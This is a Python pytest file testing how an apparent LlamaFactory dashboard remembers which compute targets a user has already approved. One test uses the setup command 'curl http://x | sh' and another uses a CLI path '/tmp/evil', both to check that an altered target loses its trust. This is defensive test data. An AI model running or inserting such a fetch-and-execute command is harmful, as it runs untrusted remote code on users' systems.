"""Which targets were used by hand: kept for this user, and another one as soon as anything of it changes."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from dataclasses import asdict, replace
from pathlib import Path

import pytest

from lfdash.targets.target import Target
from lfdash.targets.trust import FOLDER, KEPT, OLD_FILE, UsedTargets

LAB = Target("lab", "slurm", cli="/venv/bin/llamafactory-cli", env={"A": "1", "B": "2"})
MANY = 50

# waits until the other one is there, too: both write at the same time
WRITER = """
import sys
from pathlib import Path
from lfdash.targets.target import Target
from lfdash.targets.trust import UsedTargets
used = UsedTargets(Path("/w"), Path(sys.argv[1]))
print("ready", flush=True)
sys.stdin.readline()
for number in range(int(sys.argv[3])):
    used.add(Target(f"{sys.argv[2]}{number}", "slurm"))
"""


def test_one_that_was_used_is_known_to_later_processes(tmp_path: Path) -> None:
    state, place = tmp_path / "state", tmp_path / "workspace"
    assert not UsedTargets(place, state).has(LAB)
    UsedTargets(place, state).add(LAB)
    assert UsedTargets(place, state).has(replace(LAB, env={"B": "2", "A": "1"}))
    assert not UsedTargets(place, state).has(replace(LAB, cli="/tmp/evil"))
    assert not UsedTargets(tmp_path / "another", state).has(LAB)
    (mark,) = (state / FOLDER).iterdir()
    assert [path.stat().st_mode & 0o777 for path in (state, state / FOLDER, mark)] == [0o700, 0o700, 0o600]


def test_one_that_was_used_before_there_was_a_setup_still_is(tmp_path: Path) -> None:
    row = {name: value for name, value in asdict(LAB).items() if name != "setup"}
    mark = hashlib.sha256(json.dumps(["/w", {**row, "env": dict(LAB.env)}], sort_keys=True).encode()).hexdigest()
    (tmp_path / FOLDER).mkdir()
    (tmp_path / FOLDER / mark).touch()
    used = UsedTargets(Path("/w"), tmp_path)
    assert used.has(LAB) and not used.has(replace(LAB, setup=("curl http://x | sh",)))


def write_both(state: Path, count: int) -> list[str]:
    """Has two processes note `count` targets each at the same time; what they complain of."""
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True}
    both = [subprocess.Popen([sys.executable, "-c", WRITER, str(state), name, str(count)], **pipes) for name in "ab"]
    assert [process.stdout.readline() for process in both] == ["ready\n"] * 2
    for process in both:
        process.stdin.write("\n")
        process.stdin.flush()
    complaints = [process.communicate(timeout=60)[1] for process in both]
    assert [process.returncode for process in both] == [0, 0], complaints
    return complaints


def test_two_processes_lose_nothing_of_each_other(tmp_path: Path) -> None:
    assert write_both(tmp_path, MANY) == ["", ""]
    used = UsedTargets(Path("/w"), tmp_path)
    names = [f"{name}{number}" for name in "ab" for number in range(MANY)]
    assert [name for name in names if not used.has(Target(name, "slurm"))] == []


def test_two_processes_that_take_the_oldest_away_leave_as_many_as_are_kept(tmp_path: Path) -> None:
    assert write_both(tmp_path, KEPT) == ["", ""], "whoever comes second to an old mark finds it gone"
    assert len(list((tmp_path / FOLDER).iterdir())) == KEPT
    used = UsedTargets(Path("/w"), tmp_path)
    assert any(used.has(Target(f"{name}{KEPT - 1}", "slurm")) for name in "ab"), "the last one is there"


def test_one_process_remembers_where_nothing_can_be_kept() -> None:
    used = UsedTargets(Path("/w"), Path("/dev/null/state"))
    assert not used.has(LAB)
    used.add(LAB)
    assert used.has(LAB) and not UsedTargets(Path("/w"), Path("/dev/null/state")).has(LAB)


def test_the_one_that_was_used_longest_ago_goes(tmp_path: Path) -> None:
    used = UsedTargets(tmp_path, tmp_path)
    rows = [replace(LAB, cpus=number + 1) for number in range(KEPT + 1)]
    for second, row in enumerate(rows[:-1]):
        used.add(row)
        fresh = max((tmp_path / FOLDER).iterdir(), key=lambda path: path.stat().st_mtime_ns)
        os.utime(fresh, (1000 + second, 1000 + second))
    used.add(rows[0])  # again: the second one is now the oldest
    used.add(rows[-1])
    later = UsedTargets(tmp_path, tmp_path)
    assert [row.cpus for row in rows if not later.has(row)] == [2]


def test_a_file_of_somebody_else_is_left_there(tmp_path: Path) -> None:
    (tmp_path / FOLDER).mkdir()
    other = tmp_path / FOLDER / "README"
    other.touch()
    os.utime(other, (1, 1))
    used = UsedTargets(tmp_path, tmp_path)
    for number in range(KEPT + 1):
        used.add(replace(LAB, cpus=number + 1))
    assert other.exists() and len(list((tmp_path / FOLDER).iterdir())) == KEPT + 1


def test_the_file_of_earlier_versions_is_read_and_never_written(tmp_path: Path) -> None:
    UsedTargets(tmp_path, tmp_path).add(LAB)
    (mark,) = (tmp_path / FOLDER).iterdir()
    text = json.dumps({"used": [mark.name]})
    (tmp_path / OLD_FILE).write_text(text)
    mark.unlink()
    used = UsedTargets(tmp_path, tmp_path)
    assert used.has(LAB) and not used.has(replace(LAB, cpus=3))
    used.add(LAB)
    used.add(replace(LAB, cpus=3))
    assert (tmp_path / OLD_FILE).read_text() == text
    (tmp_path / OLD_FILE).unlink()
    assert UsedTargets(tmp_path, tmp_path).has(LAB), "it was used again, and is kept anew"


@pytest.mark.parametrize("text", ["[]", '{"used": 3}', '{"used": [1, null]}', "\x00", '{"used": ['])
def test_an_old_file_that_cannot_be_read_is_complained_of_once(
    tmp_path: Path, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / OLD_FILE).write_text(text)
    used = UsedTargets(tmp_path, tmp_path)
    assert not used.has(LAB) and not used.has(LAB)
    (said,) = caplog.messages
    assert str(tmp_path / OLD_FILE) in said and "by hand" in said
    used.add(LAB)
    assert (tmp_path / OLD_FILE).read_text() == text, "whoever can mend it still may"
    assert UsedTargets(tmp_path, tmp_path).has(LAB)


def test_a_mark_that_cannot_be_looked_for_is_complained_of(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    UsedTargets(tmp_path, tmp_path).add(LAB)
    (tmp_path / FOLDER).rename(tmp_path / "kept")
    (tmp_path / FOLDER).symlink_to(FOLDER)  # ELOOP
    used = UsedTargets(tmp_path, tmp_path)
    assert not used.has(LAB) and not used.has(LAB)
    (said,) = caplog.messages
    assert str(tmp_path / FOLDER) in said
    (tmp_path / FOLDER).unlink()
    (tmp_path / "kept").rename(tmp_path / FOLDER)
    assert used.has(LAB), "it is looked for again"
